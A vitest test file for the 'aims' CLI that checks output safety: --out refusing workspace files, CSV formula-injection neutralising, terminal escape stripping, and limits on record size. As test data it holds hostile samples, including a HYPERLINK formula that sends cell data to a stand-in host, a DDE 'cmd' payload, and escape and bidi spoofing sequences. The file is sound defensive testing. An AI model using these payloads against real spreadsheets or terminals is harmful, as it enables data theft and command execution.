// Outputs a careful user and an attacker both lean on: --out never damages the register, CSV
// opens as text in a spreadsheet, terminals never receive escape sequences from data, a closed
// pipe ends the command quietly, and record files are bounded.
import fc from 'fast-check';
import { spawn } from 'node:child_process';
import { cpSync, existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../../shared/render/csv';
import { terminalSafe } from '../../../scripts/cli/format/terminal';
import { renderTable } from '../../../scripts/cli/format/table';
import { runCli } from '../../support/cli';
import { demoWorkspaces } from '../../support/demo-workspace';
import { expectCsvSafe } from '../../support/csv';

const REPO = join(dirname(fileURLToPath(import.meta.url)), '../../..');
const FIELD_CASE = join(REPO, 'test/fixtures/field-cases/12-soa-csv-formula-injection/soa-entry.yaml');
const workspaces = demoWorkspaces('aims-safe-output-');
const copy = () => workspaces.copy();

describe('--out never overwrites the register', () => {
  it.each([
    ['calendar', 'events.jsonl'],
    ['soa', 'aims-workspace.json'],
    ['soa', 'records/soa-entry/x.csv'],
    ['calendar', 'checkpoints.jsonl'],
  ])(
    'aims %s --out <workspace>/%s is refused, even with --force, and the file is unchanged',
    async (command, file) => {
      const ws = copy();
      const target = join(ws, file);
      const before = existsSync(target) ? readFileSync(target, 'utf8') : undefined;
      const format = command === 'soa' ? ['--format', 'csv'] : [];
      const run = await runCli([command, '--workspace', ws, '--out', target, '--force', ...format]);
      expect(run.code).toBe(2);
      expect(run.err).toMatch(/--out .*: (is a file of|is inside the records of) the workspace/);
      expect(existsSync(target) ? readFileSync(target, 'utf8') : undefined).toBe(before);
      expect((await runCli(['verify', '--workspace', ws])).code).toBe(0);
    },
  );

  it('a link that points at the event log is refused too', async () => {
    const ws = copy();
    const link = `${workspaces.scratch('link')}.ics`;
    symlinkSync(join(ws, 'events.jsonl'), link);
    const run = await runCli(['calendar', '--workspace', ws, '--out', link, '--force']);
    expect(run.code).toBe(2);
    expect(run.err).toContain('is a file of the workspace');
  });

  it('an existing file needs --force; a new file is written', async () => {
    const ws = copy();
    const out = `${workspaces.scratch('soa')}.csv`;
    expect((await runCli(['soa', '--workspace', ws, '--out', out])).code).toBe(0);
    writeFileSync(out, 'keep me');
    const refused = await runCli(['soa', '--workspace', ws, '--out', out]);
    expect(refused.code).toBe(2);
    expect(refused.err).toContain('already exists; pass --force to overwrite it');
    expect(readFileSync(out, 'utf8')).toBe('keep me');
    const forced = await runCli(['soa', '--workspace', ws, '--out', out, '--force']);
    expect(forced.code).toBe(0);
    expect(readFileSync(out, 'utf8')).toContain('A.6.2.4');
  });

  it('aims pack refuses a folder inside the workspace records or the workspace itself', async () => {
    const ws = copy();
    for (const out of [join(ws, 'records/pack'), ws]) {
      const run = await runCli(['pack', '--workspace', ws, '--out', out]);
      expect(run.code).toBe(2);
      expect(run.err).toMatch(/--out .*: (is inside the records of the workspace|is an AIMS workspace)/);
    }
    expect(existsSync(join(ws, 'records/pack'))).toBe(false);
    expect((await runCli(['verify', '--workspace', ws])).code).toBe(0);
  });
});

describe('CSV injection (field case 12, CWE-1236)', () => {
  it('the SoA CSV neutralises a formula justification and a command owner; the text is kept', async () => {
    const ws = copy();
    const recorded = await runCli([
      'record',
      'soa-entry',
      FIELD_CASE,
      '--workspace',
      ws,
      '--today',
      '2026-11-29',
    ]);
    expect(recorded.err).toBe('');
    const run = await runCli(['soa', '--workspace', ws, '--format', 'csv']);
    expect(run.code).toBe(0);
    const rows = expectCsvSafe(run.out + '\r\n');
    const header = rows[0]!;
    const row = rows.find((r) => r[0] === 'A.6.2.4')!;
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('Justification')).toBe(
      `'=HYPERLINK("http://evidence.example/collect?d="&A1,"Open evidence")`,
    );
    expect(cell('Owner')).toBe(`'+cmd|' /C calc'!A0`);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tlead', "'\tlead"],
    ['\r=1', `"'\r=1"`],
    ['a=b', 'a=b'],
    ['plain, with comma', '"plain, with comma"'],
    ['say "hi"', '"say ""hi"""'],
    ['=cmd,"x"', `"'=cmd,""x"""`],
    ['', ''],
  ])('csvField(%j) is %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it("the tests' CSV check itself fails on a formula cell, a short row or a missing CRLF", () => {
    expect(() => expectCsvSafe('a,b\r\n=1+1,x\r\n')).toThrow();
    expect(() => expectCsvSafe('a,b\r\n@SUM(A1),x\r\n')).toThrow();
    expect(() => expectCsvSafe('a,b\r\nx\r\n')).toThrow();
    expect(() => expectCsvSafe('a,b\r\nx,y')).toThrow();
    expect(expectCsvSafe(toCsv(['a', 'b'], [['=1', 'x,"y"']]))).toEqual([
      ['a', 'b'],
      ["'=1", 'x,"y"'],
    ]);
  });

  it('rows end in CRLF', () => {
    expect(toCsv(['a', 'b'], [['-1', 'x']])).toBe("a,b\r\n'-1,x\r\n");
  });
});

describe('terminal output', () => {
  it.each([
    ['clear screen', 'bot\u001b[2J\u001b[H', 'bot'],
    ['title (OSC, BEL)', '\u001b]0;pwned\u0007name', 'name'],
    ['title (OSC, ST)', '\u001b]2;pwned\u001b\\name', 'name'],
    ['colour', '\u001b[31mred\u001b[0m', 'red'],
    ['8-bit CSI', 'a\u009b2Jb', 'ab'],
    ['carriage return overwrite', 'safe\rEVIL', 'safeEVIL'],
    ['backspace', 'ok\b\b', 'ok'],
    ['bidi override', 'admin\u202Etxt.exe', 'admintxt.exe'],
    ['NUL and DEL', 'a\u0000b\u007f', 'ab'],
  ])('strips %s', (_label, input, expected) => {
    expect(terminalSafe(input)).toBe(expected);
  });

  it('keeps tabs, line ends, CRLF and non-ASCII text', () => {
    expect(terminalSafe('a\tb\r\nç 日本 — ✓\n')).toBe('a\tb\r\nç 日本 — ✓\n');
  });

  it('any text: nothing unsafe is left, clean text comes back as it was, and a second pass changes nothing', () => {
    const pieces = [
      'plain',
      ' ',
      'ç日本—✓',
      '\t',
      '\n',
      '\r\n',
      '\r',
      '\u001b',
      '\u001b[',
      '\u001b]',
      '\u009b',
      '\u009d',
      '\u009c',
      '\u0007',
      '2J',
      ';',
      '\\',
      '\u0000',
      '\u007f',
      '\u0085',
      '\u061c',
      '\u200e',
      '\u202e',
      '\u2066',
      '\u2069',
    ];
    const unsafe =
      // eslint-disable-next-line no-control-regex -- what must never reach a terminal
      /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]|\r(?!\n)/;
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
        const text = parts.join('');
        const safe = terminalSafe(text);
        expect(safe).not.toMatch(unsafe);
        expect(terminalSafe(safe)).toBe(safe);
        if (!unsafe.test(text) && !text.includes('\r')) expect(safe).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('text the quick check lets through is what the two replacements would leave: any mix of controls', () => {
    /* eslint-disable no-control-regex -- the sequences and characters the module removes, spelled out again */
    const reference = (text: string) =>
      text
        .replace(
          /(?:\u001B\[|\u009B)[0-?]*[ -/]*[@-~]?|(?:\u001B\]|\u009D)[^\u0007\u001B\u009C]*(?:\u0007|\u001B\\|\u009C)?|\u001B[@-Z\\-_]?/g,
          '',
        )
        .replace(
          /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]|\r(?!\n)/g,
          '',
        );
    /* eslint-enable no-control-regex */
    const piece = fc.oneof(
      fc.constantFrom('\r\n', '\r', '\n', '\u001b[2J', '\u001b]0;t\u0007', '\u009b', '\u202e', 'x'),
      fc.string({ unit: 'binary', maxLength: 3 }),
      fc.integer({ min: 0, max: 0x2070 }).map((c) => String.fromCharCode(c)),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (parts) => {
        const text = parts.join('');
        expect(terminalSafe(text)).toBe(reference(text));
      }),
      { numRuns: 2000 },
    );
    expect(terminalSafe('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n')).toBe('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n');
  });

  it('tables measure widths after stripping', () => {
    const lines = renderTable(['Name', 'X'], [['\u001b[31mbot\u001b[0m', '1']]);
    expect(lines[2]).toBe('bot   1');
  });

  it('a file named with escape sequences reaches the terminal as plain text (real process)', async () => {
    const ws = copy();
    const planted = '\u001b[2J\u001b]0;owned\u0007';
    const file = `${workspaces.scratch(`trg-${planted}cleared`)}.yaml`;
    writeFileSync(
      file,
      [
        'kind: trigger',
        'id: trg-escape',
        'systemId: sys-unknown',
        'type: calendar',
        'detail: planted',
        'raisedOn: 2026-11-29',
        '',
      ].join('\n'),
    );
    const run = await spawnCli(['record', 'trigger', file, '--workspace', ws, '--today', '2026-11-29']);
    // The error line names the file: its name reaches the terminal without the sequences.
    expect(run.code).toBe(2);
    expect(run.err.includes('\u001b') || run.err.includes('\u0007')).toBe(false);
    expect(run.err).toContain(`${basename(file).replace(planted, '')}: field 'systemId'`);
  }, 30_000);

  it('aims readiness into a closed pipe exits quietly', async () => {
    const run = await spawnCli(['readiness', '--workspace', copy(), '--today', '2026-11-29'], {
      closeStdout: true,
    });
    expect(run.err).toBe('');
    expect(run.code).toBe(0);
  }, 30_000);
});

describe('bad input bounded', () => {
  it('a record file over 5 MB is refused with one line, by aims record and on load', async () => {
    const ws = copy();
    const big = `${workspaces.scratch('big')}.json`;
    writeFileSync(
      big,
      JSON.stringify({ kind: 'trigger', id: 'trg-big', detail: 'x'.repeat(5 * 1024 * 1024) }),
    );
    const run = await runCli(['record', 'trigger', big, '--workspace', ws]);
    expect(run.code).toBe(2);
    expect(run.err).toBe('aims record: ' + big + ': 5.0 MB is over the 5 MB limit for a record file');
    cpSync(big, join(ws, 'records/trigger/trg-big.json'));
    const load = await runCli(['verify', '--workspace', ws]);
    expect(load.code).toBe(2);
    expect(load.err).toBe(
      'aims verify: records/trigger/trg-big.json: 5.0 MB is over the 5 MB limit for a record file',
    );
  });

  it('duplicate JSON keys are refused by aims record and in workspace files', async () => {
    const ws = copy();
    const dup = `${workspaces.scratch('dup')}.json`;
    writeFileSync(dup, '{"kind":"trigger","id":"trg-dup","status":"open","status":"resolved"}');
    const run = await runCli(['record', 'trigger', dup, '--workspace', ws]);
    expect(run.code).toBe(2);
    expect(run.err).toContain("not valid JSON (duplicate key 'status' at line 1)");
    const file = join(ws, 'records/ai-system/sys-claims-triage.json');
    writeFileSync(file, readFileSync(file, 'utf8').replace('{', '{\n  "inScope": false,'));
    const load = await runCli(['verify', '--workspace', ws]);
    expect(load.code).toBe(2);
    expect(load.err).toContain(
      "records/ai-system/sys-claims-triage.json: not valid JSON (duplicate key 'inScope'",
    );
  });
});

/** The real bin, for what only a real process shows: terminal bytes and pipes. */
function spawnCli(
  args: string[],
  options: { closeStdout?: boolean } = {},
): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(REPO, 'bin/aims.mjs'), ...args], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    if (options.closeStdout) child.stdout.destroy();
    else child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    child.stderr.on('data', (c: Buffer) => (err += c.toString()));
    child.on('close', (code) => resolve({ code, out, err }));
  });
}
